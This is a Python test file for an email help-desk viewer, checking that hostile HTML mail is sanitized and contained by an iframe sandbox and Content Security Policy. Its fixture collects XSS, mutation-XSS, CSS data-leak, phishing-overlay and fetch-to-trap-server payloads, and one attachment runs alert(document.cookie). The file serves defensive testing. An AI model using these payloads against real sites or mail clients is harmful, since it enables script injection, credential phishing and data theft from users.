"""HTML mail that wants to run, fetch, send and cover: nothing of it does, behind two walls."""

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import httpx
import pytest
from playwright.async_api import Browser, Request

from itaca.mail.model import MailText
from services.desk.routes import mails
from tests.support.case_facts import judgement
from tests.support.chromium import visit
from tests.support.desk_site import Site, letter
from tests.support.waiting import until

pytestmark = [pytest.mark.chromium, pytest.mark.asyncio(loop_scope="module")]
HOSTILE = """<html><head><base href="{trap}/"><link rel="stylesheet" href="{trap}/a.css">
<link rel="preconnect" href="{trap}">
<link rel="prefetch" href="{trap}/prefetch"><link rel="icon" href="{trap}/icon">
<meta http-equiv="refresh" content="0;url={trap}/refresh"><style>@import url({trap}/b.css);
body {{ background: url({trap}/bg.png); cursor: url({trap}/cursor.png), auto }}
li {{ list-style-image: url({trap}/li) }}
p::after {{ content: url({trap}/after.png) }} p {{ position: fixed; inset: 0; z-index: 9999 }}
input[value^=a] {{ background: url({trap}/letter-a) }}
@font-face {{ font-family: x; src: url({trap}/f.woff) }} * {{ font-family: x }}</style></head>
<body onload="fetch('{trap}/onload')" background="{trap}/body.png">
<p>Buongiorno, il libro è arrivato strappato.</p>
<script>fetch('{trap}/script'); parent.document.title = 'taken'; top.location = '{trap}/top'</script>
<img src="{trap}/pixel.gif" alt="foto" onerror="fetch('{trap}/onerror')"><img src=x onerror=alert(1)>
<img srcset="{trap}/set.png 2x"><picture><source srcset="{trap}/source.png"><img></picture>
<svg><use href="{trap}/use.svg#a"/><style>@import url({trap}/svg.css);</style>
<a xlink:href="javascript:alert(2)">z</a><set attributeName="href" to="javascript:alert(3)"/></svg>
<svg onload="fetch('{trap}/svg')"><image href="{trap}/svg.png"/>
<foreignObject><script>fetch('{trap}/fo')</script>
</foreignObject><animate onbegin="fetch('{trap}/anim')" attributeName=x dur=1s></svg>
<iframe src="{trap}/frame" srcdoc="<script>parent.alert(1)</script>"></iframe><object data="{trap}/object"></object>
<embed src="{trap}/embed"><video autoplay src="{trap}/video" poster="{trap}/poster"></video><audio src="{trap}/audio">
</audio><form action="{trap}/form" method="post"><input name="password" autofocus onfocus="fetch('{trap}/focus')">
<input type="image" src="{trap}/input.png">
<button formaction="{trap}/formaction">Conferma</button></form>
<a href="javascript:fetch('{trap}/js')">qui</a>
<a href="{trap}/link" ping="{trap}/ping">là</a>
<table background="{trap}/table.png"><tr><td style="background:url({trap}/td.png)">x</td></tr></table>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff">La sessione è scaduta</div>
<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=fetch('{trap}/mx') src>"></svg>
<details open ontoggle="fetch('{trap}/toggle')"><marquee onstart="fetch('{trap}/marquee')">x</marquee></details>
</body></html>"""


STOPPED = {"img-src", "style-src-elem", "style-src-attr", "media-src", "object-src", "base-uri"}
"""What the frame's policy alone stops of it, at least; scripts and forms are stopped by its sandbox."""


@dataclass
class Trap:
    """Somebody's server on the internet: it must never hear from a reader."""

    port: int = 0
    heard: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.heard.append((await reader.readline()).decode("latin-1").strip())
        writer.write(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
        with contextlib.suppress(ConnectionError):
            await writer.drain()
        writer.close()


@contextlib.asynccontextmanager
async def open_trap() -> AsyncIterator[Trap]:
    """Give a server that must not be asked for anything; at the end it proves that it would have heard."""
    trap = Trap()
    server = await asyncio.start_server(trap.answer, "127.0.0.1", 0)
    trap.port = server.sockets[0].getsockname()[1]
    async with server:
        yield trap
        assert trap.heard == []
        async with httpx.AsyncClient() as anybody:
            await anybody.get(f"{trap.url}/proof")
        assert trap.heard == ["GET /proof HTTP/1.1"], "the trap does not hear"


def directives(request: Request) -> set[str]:
    """Return what the policy says that it stopped, if this is a report."""
    if mails.REPORTS not in request.url:
        return set()
    return {str(json.loads(request.post_data or "{}")["csp-report"]["effective-directive"])}


async def received(site: Site, html: str) -> str:
    mail = letter(
        "Libro <img src=x onerror=alert(4)> strappato",
        "Il libro è arrivato strappato.",
        "roban@posta.example",
        "Roban Ferrero",
    )
    mail.add_alternative(html, subtype="html")
    await site.receive(mail, judgement("N", "Y"))
    return await site.reference()


async def test_hostile_html_shows_its_words_and_does_nothing(site: Site, browser: Browser) -> None:
    """Nothing ran, nothing was fetched, and the policy had nothing to stop: the cleaning left nothing."""
    async with open_trap() as trap, visit(browser, site, "Anna Neri") as anna:
        reports: list[str] = []
        anna.page.on("request", lambda request: reports.append(request.url) if mails.REPORTS in request.url else None)
        asked: list[str] = []
        anna.page.on("request", lambda request: asked.append(request.url))
        reference = await received(site, HOSTILE.format(trap=trap.url))
        await anna.go(f"/cases/{reference}")
        await anna.page.click("summary:has-text('Con la grafica')")
        frame = anna.page.frame_locator("iframe.mail")
        await frame.locator("text=il libro è arrivato strappato").wait_for()
        await frame.locator("text=Conferma").click()
        await frame.locator("text=là").click()
        assert await frame.locator("form, input, script, svg, iframe, [style], [onerror], [href], [src]").count() == 0
        assert "taken" not in await anna.page.title()
        assert await anna.text("h1") == "Roban Ferrero"
        assert reports == []
        assert [url for url in asked if not url.startswith(site.url)] == []
        assert anna.complaints == []


async def test_the_policy_alone_would_hold(site: Site, browser: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    """Were the cleaning to fail, the frame's policy still lets nothing run or fetch, and says what it stopped."""
    async with open_trap() as trap, visit(browser, site, "Anna Neri") as anna:
        # No policy of a page governs a bare connection that asks for nothing: that one is the cleaning's to stop.
        raw = HOSTILE.format(trap=trap.url).replace("preconnect", "unknown")
        reference = await received(site, raw)

        def uncleaned(desk: object, language: str, fragment: str | None, text: MailText) -> object:
            return whole(desk, language, raw, text)

        stopped: set[str] = set()
        anna.page.on("request", lambda request: stopped.update(directives(request)))
        whole = mails.frame
        monkeypatch.setattr(mails, "frame", uncleaned)
        await anna.go(f"/cases/{reference}")
        async with anna.page.expect_request(f"**{mails.REPORTS}"):
            await anna.page.click("summary:has-text('Con la grafica')")
        source = str(await anna.page.get_attribute("iframe.mail", "src"))
        frame = anna.page.frame_locator("iframe.mail")
        await frame.locator("text=il libro è arrivato strappato").wait_for()
        await frame.locator("form").first.evaluate("form => form.submit()")
        assert "taken" not in await anna.page.title()
        assert any("Content Security Policy" in said or "sandbox" in said for said in anna.complaints)
        await until(lambda: stopped >= STOPPED, f"the reporter is told of {STOPPED}")
        await anna.go(source)
        assert "libro è arrivato strappato" in await anna.page.inner_text("body")
        assert anna.page.url == site.url + source


async def test_ten_megabytes_of_nesting_show_as_text(site: Site, browser: Browser) -> None:
    """What cannot be cleaned in time is shown as its words, nothing in it is fetched, and the desk goes on."""
    async with open_trap() as trap, visit(browser, site, "Anna Neri") as anna:
        nested = "<div>" * 2_000_000 + f"<img src={trap.url}/deep onerror=fetch('{trap.url}/run')>"
        reference = await received(site, f"{nested}Il libro è strappato{'</div>' * 1000}")
        await anna.go(f"/cases/{reference}")
        await anna.page.click("summary:has-text('Con la grafica')")
        frame = anna.page.frame_locator("iframe.mail")
        await frame.locator("text=non si può mostrare senza rischi").wait_for()
        assert "strappato" in await frame.locator("pre").inner_text()


async def test_files_come_down_and_never_open(site: Site, browser: Browser) -> None:
    """A page that was attached is a download with its bytes as they came, and no picture."""
    page = b"<html><script>alert(document.cookie)</script></html>"
    mail = letter("Prove", "Allego la schermata.", "roban@posta.example", "Roban Ferrero")
    mail.add_attachment(page, maintype="text", subtype="html", filename='fattura "1".html')
    mail.add_attachment(page, maintype="image", subtype="png", filename="foto.png")
    mail_id = await site.receive(mail, judgement("N", "Y"))
    async with visit(browser, site, "Anna Neri") as anna:
        for position in (0, 1):
            answer = await anna.context.request.get(f"{site.url}/mails/{mail_id}/files/{position}")
            assert await answer.body() == page
            assert answer.headers["content-disposition"].startswith("attachment;")
            assert answer.headers["content-type"] == "application/octet-stream"
            assert answer.headers["x-content-type-options"] == "nosniff"
        picture = await anna.context.request.get(f"{site.url}/mails/{mail_id}/files/1/picture")
        assert picture.status == 404
        original = await anna.context.request.get(f"{site.url}/mails/{mail_id}/original")
        assert (await original.body()).startswith(b"From: Roban Ferrero")
